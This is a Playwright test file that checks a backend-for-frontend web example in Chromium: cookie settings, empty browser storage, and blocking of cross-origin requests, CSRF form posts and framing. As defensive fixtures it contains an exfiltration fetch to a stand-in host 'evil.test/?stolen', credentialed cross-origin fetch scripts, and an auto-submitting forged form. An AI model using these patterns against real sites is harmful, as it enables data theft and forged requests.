/** examples/backend-for-frontend in Chromium: what the page keeps, and what pages of others can do with the person's browser. */
import type { BrowserContext, Page } from "playwright-core";
import { chromium, closeAll, closeChromium, newContext, watch, type Watched } from "./chromium";
import { type Example, startExample } from "../../__tests__/servers/example";
import { describeWith } from "../../__tests__/servers/server-process";

const orders = '{"orders":["Tea, 100 g"],"for":"alice"}';

let example: Example;
let context: BrowserContext;
let page: Page;
let watched: Watched;

const password = (): string => /password of alice is (\S+)/.exec(example.printed.out)?.[1] ?? "";
const button = (name: string) => page.getByRole("button", { name, exact: true });
const status = (text: string) => page.getByRole("status").filter({ hasText: text }).waitFor();

async function signIn(): Promise<void> {
  await page.goto(`${example.origin}/`);
  await status("Please sign in.");
  await page.getByRole("link", { name: "Sign in" }).click();
  await page.getByLabel("Password").fill(password());
  await page.keyboard.press("Enter");
  const allow = page.getByRole("button", { name: "Allow", exact: true });
  // it was allowed in an earlier test, or has to be allowed now
  await allow.or(button("Load the orders")).first().waitFor();
  if (await allow.isVisible()) await allow.click();
  await status("Signed in. Loaded 1.");
}

/** A page of another origin, opened beside the app; it says in its title what has become of its attempt. */
async function visitPageOf(origin: string, body: string): Promise<Page> {
  await context.route(`${origin}/**`, (route) =>
    route.fulfill({ contentType: "text/html", body: `<!doctype html><title>waiting</title>${body}` }),
  );
  const other = await context.newPage();
  await other.goto(`${origin}/`);
  return other;
}

const evil = "http://evil.test";
const otherPort = "http://localhost:4999";

/** A script that asks the backend as the page does, with the browser's cookies. */
const askingScript = (init: string): string => `<script>
  fetch("${example.origin}/api/orders", { credentials: "include", ${init} })
    .then((answer) => answer.text()).then((text) => (document.title = "read " + text), () => (document.title = "blocked"));
</script>`;

describeWith(chromium, {
  name: "examples/backend-for-frontend in a browser (RFC 10017: Backend For Frontend)",
  tests() {
    beforeAll(async () => {
      example = await startExample("backend-for-frontend/start.js", /Open http.*\n/);
    });
    beforeEach(async () => {
      context = await newContext();
      page = await context.newPage();
      watched = watch(page);
    });
    afterEach(closeAll);
    afterAll(async () => {
      await closeChromium();
      await example.stop();
    });

    it("signs in, shows the orders, stays signed in after a reload, and signs out", async () => {
      await signIn();
      expect(await page.locator("#orders").textContent()).toBe(orders);
      await button("Load the orders").click();
      await status("Loaded 2.");
      await page.reload();
      await status("Signed in. Loaded 1.");
      await button("Sign out").click();
      await status("You are signed out.");
      await page.reload();
      await status("Please sign in.");
      expect(watched.complaints).toEqual([]);
    });

    it("keeps nothing where a script finds it, and the code in no address", async () => {
      await signIn();
      expect(page.url()).toBe(`${example.origin}/`);
      expect(await page.evaluate("[document.cookie, localStorage.length, sessionStorage.length]")).toEqual([
        "",
        0,
        0,
      ]);
      const cookies = (await context.cookies(example.origin)).filter(({ name }) =>
        name.startsWith("__Host-"),
      );
      expect(
        cookies.map(({ name, httpOnly, secure, sameSite }) => [name, httpOnly, secure, sameSite]),
      ).toEqual(expect.arrayContaining([["__Host-session", true, true, "Strict"]]));
      expect(watched.requests.filter((url) => /eyJ[\w-]+\.eyJ|refresh/.test(url))).toEqual([]);
    });

    it("lets a script that gets into the page send nothing elsewhere", async () => {
      await signIn();
      const sent = `fetch("${evil}/?stolen").then(() => "sent", () => "blocked")`;
      expect(await page.evaluate(sent)).toBe("blocked");
    });

    it.each([
      ["another site", evil],
      ["another origin of the same site", otherPort],
    ])("lets no script of %s read or change anything", async (_, origin) => {
      await signIn();
      for (const init of [
        "",
        'method: "POST", body: "{}"',
        'headers: { "X-Order-Desk": "1" }',
        'method: "POST", headers: { "X-Order-Desk": "1" }',
      ]) {
        const other = await visitPageOf(origin, askingScript(init));
        await other.waitForFunction('document.title !== "waiting"');
        expect([init, await other.title()]).toEqual([init, "blocked"]);
        await other.close();
      }
    });

    it.each([
      ["another site", evil],
      ["another origin of the same site", otherPort],
    ])("takes no form of %s", async (_, origin) => {
      await signIn();
      const form = `<form method="post" action="${example.origin}/api/orders"></form><script>document.forms[0].submit()</script>`;
      const other = await visitPageOf(origin, form);
      await other.waitForURL(`${example.origin}/api/orders`);
      expect(await other.textContent("body")).toBe('{"error":"not_from_here"}');
      await page.reload();
      await status("Signed in. Loaded 1.");
    });

    it("shows itself in no frame", async () => {
      await signIn();
      const other = await visitPageOf(evil, `<iframe src="${example.origin}/"></iframe>`);
      const frame = other.frames().find((each) => each !== other.mainFrame());
      await other.waitForLoadState("load");
      expect(frame?.url() ?? "").not.toBe(`${example.origin}/`);
    });
  },
});
